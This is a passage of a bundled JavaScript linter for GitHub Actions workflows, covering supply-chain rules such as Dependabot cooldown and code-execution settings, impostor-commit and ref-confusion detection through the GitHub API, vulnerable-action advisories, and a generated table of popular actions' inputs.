                        context.report(config.file, set, `cooldown of ${what} is ${set.days} days, less than ${MIN_COOLDOWN_DAYS}; set default-days: ${MIN_COOLDOWN_DAYS} or more`);
                    }
                    else if (update.cooldownKey) {
                        context.report(config.file, update.cooldownKey, `cooldown of ${what} has no default-days, so it is Dependabot's ${DEPENDABOT_DEFAULT_DAYS}; add default-days: ${MIN_COOLDOWN_DAYS}`);
                    }
                    else {
                        context.report(config.file, update, `${what} have no cooldown: new releases are proposed at once; add cooldown: { default-days: ${MIN_COOLDOWN_DAYS} }`);
                    }
                }
            }
        };
    }
};
/* harmony default export */ const dependabot_cooldown = (dependabot_cooldown_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/dependabot-execution.js
const dependabot_execution_rule = {
    id: 'PG229',
    name: 'dependabot-execution',
    level: 'error',
    description: 'An `updates:` entry of `.github/dependabot.yml` with `insecure-external-code-execution: allow`: Dependabot runs code of the updated packages while resolving them, with access to its registry credentials.',
    help: 'For some ecosystems (bundler, mix, pip) resolving a dependency can execute code the package ships. `insecure-external-code-execution: allow` lets Dependabot do so, with the private registry credentials of the update in reach: one compromised package can steal them. Remove the key (`deny` is the default) and vendor what needs building. Read from `.github/dependabot.yml` (or `.yaml`). Same as zizmor\'s dependabot-execution audit.',
    create(context) {
        return {
            dependabot(config) {
                for (const update of config.updates) {
                    const setting = update.insecureExternalCodeExecution;
                    if (setting?.setting.trim().toLowerCase() !== 'allow')
                        continue;
                    const what = update.ecosystem ? `the ${update.ecosystem.value} updates` : 'this update';
                    context.report(config.file, setting, `insecure-external-code-execution: allow lets Dependabot run code of ${what} with its registry credentials; remove it (deny is the default)`);
                }
            }
        };
    }
};
/* harmony default export */ const dependabot_execution = (dependabot_execution_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/online.js


const online_SHA = /^[0-9a-f]{40}$/i;
const USES = /^([A-Za-z0-9][A-Za-z0-9-]*)\/([A-Za-z0-9._-]+)(?:\/([^@]*))?@([^@\s]+)$/;
/** The remote `uses:` of every job and step (composite actions included), in file order. */
function usesSites(project) {
    const sites = [];
    const add = (file, node) => {
        const value = node?.value.trim();
        if (!node || !value || value.includes('${{'))
            return;
        const m = USES.exec(value);
        if (!m)
            return;
        const line = tokens_lineOf(file.file, node.at.line);
        const comment = /\s#(.*)$/.exec(line.slice(node.at.column - 1))?.[1]?.trim();
        sites.push({ file: file.file, node, slug: `${m[1]}/${m[2]}`, owner: m[1], repo: m[2], ref: m[4], sha: online_SHA.test(m[4]) ? m[4].toLowerCase() : undefined, comment, path: (m[3] ?? '').replace(/\/+$/, '') });
    };
    for (const parsed of project.files) {
        const model = parsed.model;
        if (!model)
            continue;
        const steps = (list) => list.forEach((s) => add(model, s.uses));
        if (model.kind === 'workflow') {
            for (const job of model.jobs) {
                add(model, job.uses);
                steps(job.steps);
            }
        }
        else
            steps(model.steps);
    }
    return sites;
}
/**
 * The version a `# comment` names, as zizmor reads it: the whole comment is one word, after an
 * optional `tag=`, `version:` or `ver=`.
 */
function commentVersion(comment) {
    if (comment === undefined)
        return undefined;
    return /^\s*(?:(?:tag|version|ver)\s*[:=]\s*)?(\S+)$/.exec(comment)?.[1];
}
function isFailure(x) {
    return typeof x === 'object' && x !== null && 'failed' in x;
}
const DEFAULTS = { concurrency: 4, timeoutMs: 15_000, maxPages: 10, maxCompares: 250, maxTagHops: 5, budgetMs: 120_000, maxFiles: 200, maxFileBytes: 256 * 1024 };
/** Per-run cache and request pacing over one client. */
class OnlineSession {
    client;
    cache = new Map();
    options;
    active = 0;
    waiting = [];
    stopped;
    /** Repositories (and `run`) whose failure was already reported. */
    reported = new Set();
    /** Requests sent, for tests and the log. */
    requests = 0;
    started = Date.now();
    /** Files asked of the contents API so far (bounded by maxFiles). */
    files = 0;
    constructor(client, options = {}) {
        this.client = client;
        this.options = { ...DEFAULTS, ...options };
    }
    /** Runs `make` once per key for the session. */
    once(key, make) {
        let p = this.cache.get(key);
        if (!p) {
            p = make();
            this.cache.set(key, p);
        }
        return p;
    }
    async slot(run) {
        while (this.active >= this.options.concurrency)
            await new Promise((resolve) => this.waiting.push(resolve));
        this.active++;
        try {
            return await run();
        }
        finally {
            this.active--;
            this.waiting.shift()?.();
        }
    }
    /** One GET; failures become an answer, a rate limit stops the session. */
    async get(route, params, doing) {
        if (this.stopped)
            return { status: 0, failure: this.stopped };
        return this.slot(async () => {
            if (!this.stopped && Date.now() - this.started > this.options.budgetMs) {
                this.stopped = { failed: `the online audits used their ${this.options.budgetMs / 1000}s for this run; the rest was not checked`, run: true };
            }
            if (this.stopped)
                return { status: 0, failure: this.stopped };
            this.requests++;
            const signal = AbortSignal.timeout(this.options.timeoutMs);
            try {
                const res = await this.client.request(route, { ...params, request: { signal } });
                return { data: res.data };
            }
            catch (err) {
                const e = err;
                const status = typeof e.status === 'number' ? e.status : 0;
                const said = String(typeof e.response?.data?.message === 'string' ? e.response.data.message : (e.message ?? err)).replace(/\s+/g, ' ').replace(/\.$/, '');
                const headers = e.response?.headers ?? {};
                if ((status === 403 || status === 429) && (headers['x-ratelimit-remaining'] === '0' || /rate limit/i.test(said))) {
                    this.stopped = { failed: `${doing}: GitHub answered ${status}: ${said}; the online audits stopped for this run (retry later, or use a token with its own rate limit)`, run: true };
                    return { status, failure: this.stopped };
                }
                if (!e.response) {
                    // No HTTP answer (refused, DNS, TLS): Octokit says "Unknown Error", its cause says why.
                    const cause = err.cause;
                    const why = signal.aborted ? `no answer within ${this.options.timeoutMs / 1000}s` : `could not reach the GitHub API: ${cause?.cause?.message ?? cause?.message ?? said}`;
                    return { status, failure: { failed: `${doing}: ${why}` } };
                }
                return { status, failure: { failed: `${doing}: GitHub answered ${status}: ${said}` } };
            }
        });
    }
    /** GET /repos/{owner}/{repo}: archived, default branch. */
    repository(owner, repo) {
        return this.once(`repo ${owner}/${repo}`.toLowerCase(), async () => {
            const a = await this.get('GET /repos/{owner}/{repo}', { owner, repo }, `reading ${owner}/${repo}`);
            if ('failure' in a) {
                return a.status === 404 ? { failed: `repository ${owner}/${repo} not found (deleted, renamed or private to this token)` } : a.failure;
            }
            const d = a.data;
            return { archived: d.archived === true, defaultBranch: String(d.default_branch ?? 'main') };
        });
    }
    list(kind, owner, repo) {
        return this.once(`${kind} ${owner}/${repo}`.toLowerCase(), async () => {
            const refs = [];
            for (let page = 1; page <= this.options.maxPages; page++) {
                const a = await this.get(`GET /repos/{owner}/{repo}/${kind}`, { owner, repo, per_page: 100, page }, `listing the ${kind} of ${owner}/${repo}`);
                if ('failure' in a)
                    return a.status === 404 ? { failed: `repository ${owner}/${repo} not found (deleted, renamed or private to this token)` } : a.failure;
                const items = a.data;
                for (const t of items)
                    refs.push({ name: t.name, sha: t.commit.sha.toLowerCase() });
                if (items.length < 100)
                    return { refs, complete: true };
            }
            return { refs, complete: false };
        });
    }
    /** Every tag, with the commit it points at (GET /tags peels annotated tags). */
    tags(owner, repo) {
        return this.list('tags', owner, repo);
    }
    branches(owner, repo) {
        return this.list('branches', owner, repo);
    }
    /** The longest tag name at `sha` (`v4.2.2` rather than `v4`), or undefined. */
    async tagAt(owner, repo, sha) {
        const tags = await this.tags(owner, repo);
        if (isFailure(tags))
            return tags;
        return tags.refs.filter((t) => t.sha === sha).sort((a, b) => b.name.length - a.name.length)[0]?.name;
    }
    /** The commit an annotated tag object points at, following tags of tags; undefined when `sha` is no tag object. */
    peelTag(owner, repo, sha) {
        return this.once(`peel ${owner}/${repo}@${sha}`.toLowerCase(), async () => {
            let next = sha;
            for (let hop = 0; hop < this.options.maxTagHops; hop++) {
                const a = await this.get('GET /repos/{owner}/{repo}/git/tags/{tag_sha}', { owner, repo, tag_sha: next }, `reading tag object ${next.slice(0, 12)} of ${owner}/${repo}`);
                if ('failure' in a)
                    return a.status === 404 ? (hop === 0 ? undefined : next) : a.failure;
                const object = a.data.object;
                if (object.type !== 'tag')
                    return object.sha.toLowerCase();
                next = object.sha;
            }
            return undefined;
        });
    }
    /** Whether `sha` is in the history of commit `base` (compare is `behind` or `identical`); undefined when GitHub does not know `sha`. */
    contains(owner, repo, base, sha) {
        return this.once(`compare ${owner}/${repo} ${base}...${sha}`.toLowerCase(), async () => {
            const a = await this.get('GET /repos/{owner}/{repo}/compare/{basehead}', { owner, repo, basehead: `${base}...${sha}` }, `comparing ${sha.slice(0, 12)} with ${owner}/${repo}`);
            if ('failure' in a)
                return a.status === 404 ? undefined : a.failure;
            const status = a.data.status;
            return status === 'behind' || status === 'identical';
        });
    }
    /**
     * Whether `sha` belongs to the repository: `ok` when a branch or tag has it in its history,
     * `impostor` when none does, `missing` when it shares history with none of them (no such
     * commit, or an orphan), `unknown` when the bounds stopped the search first.
     */
    reachable(owner, repo, sha) {
        return this.once(`reachable ${owner}/${repo}@${sha}`.toLowerCase(), async () => {
            const [info, tags, branches] = await Promise.all([this.repository(owner, repo), this.tags(owner, repo), this.branches(owner, repo)]);
            if (isFailure(info))
                return info;
            if (isFailure(tags))
                return tags;
            if (isFailure(branches))
                return branches;
            const heads = [...tags.refs, ...branches.refs];
            if (heads.some((r) => r.sha === sha))
                return 'ok';
            // The default branch first, then tags (releases), then the other branches: each a base.
            const def = branches.refs.find((b) => b.name === info.defaultBranch);
            const bases = [...new Set([...(def ? [def.sha] : []), ...tags.refs.map((t) => t.sha), ...branches.refs.map((b) => b.sha)])];
            if (bases.length === 0)
                return tags.complete && branches.complete ? 'missing' : 'unknown';
            let candidate = sha;
            let first = await this.contains(owner, repo, bases[0], candidate);
            if (first === undefined) {
                // Unknown to compare: perhaps an annotated tag's object SHA.
                const peeled = await this.peelTag(owner, repo, sha);
                if (isFailure(peeled))
                    return peeled;
                if (peeled && heads.some((r) => r.sha === peeled))
                    return 'ok';
                if (peeled) {
                    candidate = peeled;
                    first = await this.contains(owner, repo, bases[0], candidate);
                }
            }
            if (isFailure(first))
                return first;
            if (first)
                return 'ok';
            let related = first !== undefined;
            // The other bases a few at a time (as many as requests may run at once), up to the bound.
            const rest = bases.slice(1, this.options.maxCompares);
            for (let i = 0; i < rest.length; i += this.options.concurrency) {
                const answers = await Promise.all(rest.slice(i, i + this.options.concurrency).map((base) => this.contains(owner, repo, base, candidate)));
                const failure = answers.find(isFailure);
                if (failure)
                    return failure;
                if (answers.includes(true))
                    return 'ok';
                if (answers.includes(false))
                    related = true;
            }
            if (bases.length > this.options.maxCompares)
                return 'unknown';
            if (!tags.complete || !branches.complete)
                return 'unknown';
            // Compare answers 404 for a commit GitHub does not know, and for one that shares no history.
            return related ? 'impostor' : 'missing';
        });
    }
    /** Reviewed, not withdrawn advisories of the `actions` ecosystem that affect `owner/repo@version`. */
    advisories(owner, repo, version) {
        const slug = `${owner}/${repo}`;
        return this.once(`advisories ${slug}@${version}`.toLowerCase(), async () => {
            const a = await this.get('GET /advisories', { ecosystem: 'actions', affects: `${slug}@${version}`, per_page: 100 }, `reading the advisories of ${slug}@${version}`);
            if ('failure' in a)
                return a.failure;
            const list = a.data;
            return list
                .filter((x) => !x.withdrawn_at)
                .map((x) => {
                const vuln = (x.vulnerabilities ?? []).find((v) => v.package?.ecosystem === 'actions' && v.package.name?.toLowerCase() === slug.toLowerCase());
                return { ghsaId: x.ghsa_id, severity: x.severity, summary: x.summary, firstPatched: vuln?.first_patched_version ?? undefined };
            });
        });
    }
    /**
     * The text of a file at a ref (GET contents); undefined when there is none there (404, a
     * directory, a symlink). A file over maxFileBytes is refused, and past maxFiles files a run none
     * is read.
     */
    fileAt(owner, repo, path, ref) {
        return this.once(`contents ${owner}/${repo}`.toLowerCase() + ` ${path}@${ref}`, async () => {
            const what = `${path} of ${owner}/${repo}@${ref}`;
            if (++this.files > this.options.maxFiles) {
                return { failed: `the online audits read at most ${this.options.maxFiles} action.yml and workflow files a run; ${what} and the rest were not read`, scope: 'files' };
            }
            const a = await this.get('GET /repos/{owner}/{repo}/contents/{path}', { owner, repo, path, ref }, `reading ${what}`);
            if ('failure' in a)
                return a.status === 404 ? undefined : a.failure;
            const d = a.data;
            if (Array.isArray(a.data) || d.type !== 'file')
                return undefined;
            const size = typeof d.size === 'number' ? d.size : 0;
            if (size > this.options.maxFileBytes) {
                return { failed: `${what} is ${Math.ceil(size / 1024)} KB, more than the ${Math.floor(this.options.maxFileBytes / 1024)} KB read; not read` };
            }
            if (d.encoding !== 'base64' || typeof d.content !== 'string')
                return { failed: `reading ${what}: GitHub sent no content (encoding "${String(d.encoding)}")` };
            return Buffer.from(d.content, 'base64').toString('utf8');
        });
    }
    /**
     * What a remote `uses:` runs, parsed: the action metadata of `path` (action.yml, else
     * action.yaml) or the reusable workflow `path` (`.github/workflows/x.yml`), at `ref`; undefined
     * when there is none or it has no model (an action with only a Dockerfile, a file that does not parse).
     */
    usesFileAt(owner, repo, path, ref) {
        return this.once(`uses ${owner}/${repo}`.toLowerCase() + ` ${path}@${ref}`, async () => {
            const workflow = /^\.github\/workflows\/[^/]+\.ya?ml$/.test(path);
            const candidates = workflow ? [path] : ['action.yml', 'action.yaml'].map((f) => (path ? `${path}/${f}` : f));
            for (const candidate of candidates) {
                const text = await this.fileAt(owner, repo, candidate, ref);
                if (text === undefined)
                    continue;
                if (isFailure(text))
                    return text;
                const parsed = await parseSource({ path: `${owner}/${repo}/${candidate}@${ref}`, abs: '', kind: workflow ? 'workflow' : 'action', text });
                return parsed.model;
            }
            return undefined;
        });
    }
}
const sessions = new WeakMap();
/** The run's session: one per client, whichever rule asks first; undefined without a token. */
function sessionFor(context) {
    const client = context.github;
    if (!client)
        return undefined;
    let s = sessions.get(client);
    if (!s) {
        s = new OnlineSession(client);
        sessions.set(client, s);
    }
    return s;
}
/**
 * Reports a failure once: per repository, or per run for a rate limit (at the first site that met
 * it), as a note of the rule that met it first. True when there was a failure.
 */
function reportFailure(context, session, site, answer) {
    if (!isFailure(answer))
        return false;
    const key = answer.run ? 'run' : (answer.scope ?? site.slug.toLowerCase());
    if (session.reported.has(key))
        return true;
    session.reported.add(key);
    context.report(site.file, site.node, `could not check "${site.node.value.trim()}" through the GitHub API: ${answer.failed}`, 'note');
    return true;
}
/** The tags and branches of a site's repository; undefined (the failure reported) when unreadable. */
async function refsOf(context, session, site) {
    const [tags, branches] = await Promise.all([session.tags(site.owner, site.repo), session.branches(site.owner, site.repo)]);
    if (reportFailure(context, session, site, tags) || reportFailure(context, session, site, branches) || isFailure(tags) || isFailure(branches))
        return undefined;
    return { tags, branches };
}
/** Runs `check` for every site, all at once (the session paces the requests). */
async function eachSite(context, check) {
    const session = sessionFor(context);
    if (!session)
        return;
    await Promise.all(usesSites(context.project).map((site) => check(session, site)));
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/impostor-commit.js

const impostor_commit_rule = {
    id: 'PG240',
    name: 'impostor-commit',
    level: 'error',
    description: 'A `uses:` pinned to a commit SHA that is in the history of no branch and no tag of the named repository (a commit of a fork).',
    help: 'A repository and its forks share one network of commits on GitHub, so `owner/repo@<sha>` runs a commit pushed to any fork as if `owner/repo` had made it (an "impostor commit"; see Chainguard\'s "What the fork?"). A pull request that bumps a SHA can hide one. Pin a commit of a release of the repository itself (`owner/repo@<sha of a tag> # v1.2.3`). Read through the GitHub API with the `token` input (GET tags, branches and compare), cached for the run; zizmor\'s `impostor-commit`.',
    create(context) {
        return {
            prepare: () => eachSite(context, async (session, site) => {
                if (!site.sha)
                    return;
                const verdict = await session.reachable(site.owner, site.repo, site.sha);
                if (reportFailure(context, session, site, verdict))
                    return;
                if (verdict === 'impostor') {
                    context.report(site.file, site.node, `commit ${site.sha.slice(0, 12)} of "${site.node.value.trim()}" is on no branch or tag of ${site.slug}: it may come from a fork (an impostor commit); pin a commit of a release of ${site.slug}`);
                }
                else if (verdict === 'missing') {
                    context.report(site.file, site.node, `commit ${site.sha.slice(0, 12)} of "${site.node.value.trim()}" is unknown to ${site.slug} or shares no history with its branches and tags; pin a commit of a release of ${site.slug}`);
                }
            })
        };
    }
};
/* harmony default export */ const impostor_commit = (impostor_commit_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/ref-confusion.js

const ref_confusion_rule = {
    id: 'PG241',
    name: 'ref-confusion',
    level: 'warning',
    description: 'A `uses:` ref that is both a branch and a tag of the repository, so which commit runs depends on how GitHub resolves the name.',
    help: 'When `owner/repo@name` is both a branch and a tag, whoever can push a branch (a much weaker right than making a release) can decide what runs: GitHub resolves the branch first. Pin a full commit SHA (`owner/repo@<sha> # v1.2.3`), or ask the maintainers to delete the branch. Read through the GitHub API with the `token` input (GET tags and branches), cached for the run; zizmor\'s `ref-confusion`.',
    create(context) {
        return {
            prepare: () => eachSite(context, async (session, site) => {
                if (site.sha)
                    return;
                const refs = await refsOf(context, session, site);
                if (!refs)
                    return;
                const { tags, branches } = refs;
                const tag = tags.refs.find((t) => t.name === site.ref);
                const branch = branches.refs.find((b) => b.name === site.ref);
                if (!tag || !branch)
                    return;
                context.report(site.file, site.node, `ref "${site.ref}" of "${site.node.value.trim()}" is both a branch (commit ${branch.sha.slice(0, 12)}) and a tag (commit ${tag.sha.slice(0, 12)}) of ${site.slug}; pin a full commit SHA`);
            })
        };
    }
};
/* harmony default export */ const ref_confusion = (ref_confusion_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/ref-version-mismatch.js

const ref_version_mismatch_rule = {
    id: 'PG242',
    name: 'ref-version-mismatch',
    level: 'warning',
    description: 'A `uses:` pinned to a commit SHA whose version comment names a tag of another commit, or a tag the repository does not have.',
    help: 'Reviewers read the `# v1.2.3` after a pinned SHA, and Dependabot and Renovate update both together; when the tag is another commit, the comment hides what really runs (an older, perhaps vulnerable release, or a commit of no release). Fix the comment to the tag of the pinned commit, or pin the commit of the tag the comment names. Read through the GitHub API with the `token` input (GET tags and branches), cached for the run; zizmor\'s `ref-version-mismatch`.',
    create(context) {
        return {
            prepare: () => eachSite(context, async (session, site) => {
                const version = commentVersion(site.comment);
                if (!site.sha || !version)
                    return;
                const refs = await refsOf(context, session, site);
                if (!refs)
                    return;
                const { tags, branches } = refs;
                // As GitHub resolves a name: a branch before a tag.
                const named = branches.refs.find((b) => b.name === version) ?? tags.refs.find((t) => t.name === version);
                if (named?.sha === site.sha)
                    return;
                const actual = tags.refs.filter((t) => t.sha === site.sha).sort((a, b) => b.name.length - a.name.length)[0]?.name;
                const fix = actual ? `the pinned commit is ${actual}; write "# ${actual}"` : `the pinned commit is no tag of ${site.slug}`;
                if (named) {
                    context.report(site.file, site.node, `comment "${version}" of "${site.node.value.trim()}" does not match: ${version} of ${site.slug} is commit ${named.sha.slice(0, 12)}, not ${site.sha.slice(0, 12)}; ${fix}`);
                }
                else if (tags.complete && branches.complete) {
                    context.report(site.file, site.node, `comment "${version}" of "${site.node.value.trim()}" names no tag or branch of ${site.slug}; ${fix}`);
                }
            })
        };
    }
};
/* harmony default export */ const ref_version_mismatch = (ref_version_mismatch_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/stale-action-refs.js

const stale_action_refs_rule = {
    id: 'PG243',
    name: 'stale-action-refs',
    level: 'note',
    description: 'A `uses:` pinned to a commit SHA that is the commit of no tag of the repository: a commit between releases, which Dependabot and Renovate do not update.',
    help: 'A pin to an untagged commit runs code no release vouched for, and version updaters cannot tell which release it is, so it stays behind. Pin the commit of a release (`owner/repo@<sha of the tag> # v1.2.3`). Read through the GitHub API with the `token` input (GET tags), cached for the run; zizmor\'s `stale-action-refs`.',
    create(context) {
        return {
            prepare: () => eachSite(context, async (session, site) => {
                if (!site.sha)
                    return;
                const tags = await session.tags(site.owner, site.repo);
                if (reportFailure(context, session, site, tags) || isFailure(tags))
                    return;
                if (!tags.complete || tags.refs.some((t) => t.sha === site.sha))
                    return;
                context.report(site.file, site.node, `commit ${site.sha.slice(0, 12)} of "${site.node.value.trim()}" is no tag of ${site.slug}; pin the commit of a release`);
            })
        };
    }
};
/* harmony default export */ const stale_action_refs = (stale_action_refs_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/archived-uses.js

const archived_uses_rule = {
    id: 'PG244',
    name: 'archived-uses',
    level: 'warning',
    description: 'A `uses:` of an action or reusable workflow whose repository is archived.',
    help: 'An archived repository gets no more fixes, security fixes included, and its actions often run on a retired Node.js. Move to the maintained replacement the repository\'s README names (e.g. `ruby/setup-ruby` for `actions/setup-ruby`), or vendor the action. Read through the GitHub API with the `token` input (GET the repository), cached for the run; zizmor\'s `archived-uses`.',
    create(context) {
        return {
            prepare: () => eachSite(context, async (session, site) => {
                const info = await session.repository(site.owner, site.repo);
                if (reportFailure(context, session, site, info) || isFailure(info) || !info.archived)
                    return;
                context.report(site.file, site.node, `"${site.node.value.trim()}" comes from ${site.slug}, which is archived: it gets no more fixes; use a maintained replacement`);
            })
        };
    }
};
/* harmony default export */ const archived_uses = (archived_uses_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/known-vulnerable-actions.js

const known_vulnerable_actions_rule = {
    id: 'PG245',
    name: 'known-vulnerable-actions',
    level: 'warning',
    description: 'A `uses:` of an action version that a GitHub security advisory of the `actions` ecosystem names as vulnerable (an error for high and critical ones).',
    help: 'GitHub\'s advisory database lists vulnerable versions of actions (tj-actions/changed-files before 46.0.1 leaked secrets to logs, for one). Upgrade to the first patched version the message names, pinned by SHA. The version is the tag of the pinned commit that its `# comment` names, else its longest tag (`v4.2.2` rather than `v4`), or the tag or branch named. Read through the GitHub API with the `token` input (GET tags and /advisories?ecosystem=actions&affects=…), cached for the run; zizmor\'s `known-vulnerable-actions`.',
    create(context) {
        return {
            prepare: () => eachSite(context, async (session, site) => {
                const refs = await refsOf(context, session, site);
                if (!refs)
                    return;
                const { tags, branches } = refs;
                // As GitHub resolves a name (a branch before a tag), then the longest tag of that commit.
                const commit = site.sha ?? (branches.refs.find((b) => b.name === site.ref) ?? tags.refs.find((t) => t.name === site.ref))?.sha;
                // The tag the version comment names when it is one of the commit's tags (tags at one
                // commit are many, e.g. v45.0.5 … v45.0.9 of tj-actions/changed-files), else the longest.
                const atCommit = commit ? tags.refs.filter((t) => t.sha === commit).map((t) => t.name) : [];
                const claimed = commentVersion(site.comment);
                const tagged = claimed && atCommit.includes(claimed) ? claimed : [...atCommit].sort((a, b) => b.length - a.length)[0];
                const version = tagged || (site.sha ? undefined : site.ref);
                if (!version)
                    return;
                const advisories = await session.advisories(site.owner, site.repo, version);
                if (reportFailure(context, session, site, advisories) || isFailure(advisories))
                    return;
                for (const a of advisories) {
                    const upgrade = a.firstPatched ? `upgrade to ${a.firstPatched} or later` : 'no patched version yet: replace the action';
                    const level = a.severity === 'high' || a.severity === 'critical' ? 'error' : undefined;
                    context.report(site.file, site.node, `${site.slug} ${version} is vulnerable: ${a.ghsaId} (${a.severity}) ${a.summary.replace(/\s+/g, ' ').trim().replace(/\.$/, '')}; ${upgrade}`, level);
                }
            })
        };
    }
};
/* harmony default export */ const known_vulnerable_actions = (known_vulnerable_actions_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/popular-actions.data.js
/**
 * Generated by scripts/popular-actions/generate.mjs from the action.yml of each repository in
 * scripts/popular-actions/sources.txt; do not edit. Per action (lower case) and major version:
 * `runs.using|inputs`, inputs separated by spaces (`!` required without a default, `~` deprecated),
 * or the change from the major before (`+added -removed`, `=` for none). The ref and commit read: scripts/popular-actions/refs.txt.
 */
const POPULAR_ACTIONS = { "actions/attest-build-provenance": { "v0": "composite|subject-path subject-digest subject-name push-to-registry github-token", "v1": "composite|+show-summary", "v2": "composite|+subject-checksums", "v3": "composite|=", "v4": "composite|+predicate-type +predicate +predicate-path +create-storage-record" },
    "actions/cache": { "v0": "node12|path! key! restore-keys", "v1": "node12|=", "v2": "node12|+upload-chunk-size", "v3": "node16|+enableCrossOsArchive +fail-on-cache-miss +lookup-only", "v4": "node20|+save-always~", "v5": "node24|=" },
    "actions/checkout": { "v1": "|repository ref token clean submodules lfs fetch-depth path", "v2": "node12|+ssh-key +ssh-known-hosts +ssh-strict +persist-credentials +set-safe-directory +allow-unsafe-pr-checkout", "v3": "node16|+sparse-checkout +sparse-checkout-cone-mode +fetch-tags +github-server-url", "v4": "node20|+ssh-user +filter +show-progress", "v5": "node24|=", "v6": "node24|=", "v7": "node24|=" },
    "actions/configure-pages": { "v0": "node16|static_site_generator token", "v1": "node16|+generator_config_file +enablement", "v2": "node16|=", "v3": "node16|=", "v4": "node20|=", "v5": "node20|=" },
    "actions/create-github-app-token": { "v1": "node20|app-id app_id~ private-key private_key~ owner repositories skip-token-revoke skip_token_revoke~ github-api-url permission-actions permission-administration permission-checks permission-codespaces permission-contents permission-dependabot-secrets permission-deployments permission-email-addresses permission-environments permission-followers permission-git-ssh-keys permission-gpg-keys permission-interaction-limits permission-issues permission-members permission-metadata permission-organization-administration permission-organization-announcement-banners permission-organization-copilot-seat-management permission-organization-custom-org-roles permission-organization-custom-properties permission-organization-custom-roles permission-organization-events permission-organization-hooks permission-organization-packages permission-organization-personal-access-token-requests permission-organization-personal-access-tokens permission-organization-plan permission-organization-projects permission-organization-secrets permission-organization-self-hosted-runners permission-organization-user-blocking permission-packages permission-pages permission-profile permission-pull-requests permission-repository-custom-properties permission-repository-hooks permission-repository-projects permission-secret-scanning-alerts permission-secrets permission-security-events permission-single-file permission-starring permission-statuses permission-team-discussions permission-vulnerability-alerts permission-workflows", "v2": "node20|+app-id! +private-key! +permission-custom-properties-for-organizations +permission-enterprise-custom-properties-for-organizations -app-id -app_id~ -private-key -private_key~ -skip_token_revoke~", "v3": "node24|+client-id +app-id~ +permission-artifact-metadata +permission-attestations +permission-discussions +permission-merge-queues -app-id!" },
    "actions/dependency-review-action": { "v1": "node16|repo-token", "v2": "node16|+fail-on-severity +fail-on-scopes +base-ref +head-ref +config-file +allow-licenses +deny-licenses +allow-ghsas", "v3": "node16|+allow-dependencies-licenses +external-repo-token +license-check +vulnerability-check +comment-summary-in-pr +deny-packages +deny-groups +retry-on-snapshot-warnings +retry-on-snapshot-warnings-timeout", "v4": "node20|+warn-only +show-openssf-scorecard +warn-on-openssf-scorecard-level +show-patched-versions" },
    "actions/deploy-pages": { "v1": "node16|emit_telemetry~ conclusion~ token timeout error_count reporting_interval artifact_name preview", "v2": "node16|-emit_telemetry~ -conclusion~", "v3": "node20|=", "v4": "node20|=", "v5": "node24|=" },
    "actions/download-artifact": { "v1": "|name! path", "v2": "node12|name path", "v3": "node16|=", "v4": "node20|+artifact-ids +pattern +merge-multiple +github-token +repository +run-id", "v5": "node20|=", "v6": "node20|=", "v7": "node24|=", "v8": "node24|+skip-decompress +digest-mismatch" },
    "actions/github-script": { "v1": "node12|script! github-token debug user-agent previews result-encoding", "v2": "node12|=", "v3": "node12|=", "v4": "node12|=", "v5": "node12|=", "v6": "node16|+retries +retry-exempt-status-codes", "v7": "node20|+base-url", "v8": "node24|=" },
    "actions/labeler": { "v2": "node12|repo-token configuration-path sync-labels", "v3": "node12|=", "v4": "node16|+dot +pr-number", "v5": "node20|=", "v6": "node24|=", "v7": "node24|=" },
    "actions/setup-dotnet": { "v1": "node12|dotnet-version source-url owner config-file include-prerelease", "v2": "node16|+global-json-file", "v3": "node16|+dotnet-quality +cache +cache-dependency-path -include-prerelease", "v4": "node20|=", "v5": "node24|+dotnet-channel +workloads +architecture", "v6": "node24|=" },
    "actions/setup-go": { "v1": "node12|go-version version~", "v2": "node12|go-version check-latest stable token", "v3": "node16|+go-version-file +cache +cache-dependency-path +architecture -stable", "v4": "node16|=", "v5": "node20|=", "v6": "node24|+go-download-base-url", "v7": "node24|=" },
    "actions/setup-java": { "v1": "node12|java-version! java-package architecture jdkFile server-id server-username server-password settings-path gpg-private-key gpg-passphrase", "v2": "node12|+distribution! +check-latest +overwrite-settings +cache +job-status", "v3": "node16|+java-version +java-version-file +token +mvn-toolchain-id +mvn-toolchain-vendor -java-version!", "v4": "node20|+cache-dependency-path", "v5": "node24|+distribution +jdk-file +jdkFile~ +set-default +verify-signature +verify-signature-public-key +show-download-progress -distribution! -jdkFile" },
    "actions/setup-node": { "v1": "node12|always-auth node-version registry-url scope version~", "v2": "node12|+node-version-file +architecture +check-latest +token +cache +cache-dependency-path", "v3": "node16|-version~", "v4": "node20|+mirror +mirror-token", "v5": "node24|+package-manager-cache", "v6": "node24|-always-auth", "v7": "node24|=" },
    "actions/setup-python": { "v1": "node12|python-version architecture", "v2": "node12|+cache +token +cache-dependency-path", "v3": "node16|=", "v4": "node16|+python-version-file +check-latest +update-environment +allow-prereleases", "v5": "node20|+freethreaded", "v6": "node24|+pip-version +pip-install", "v7": "node24|-pip-install" },
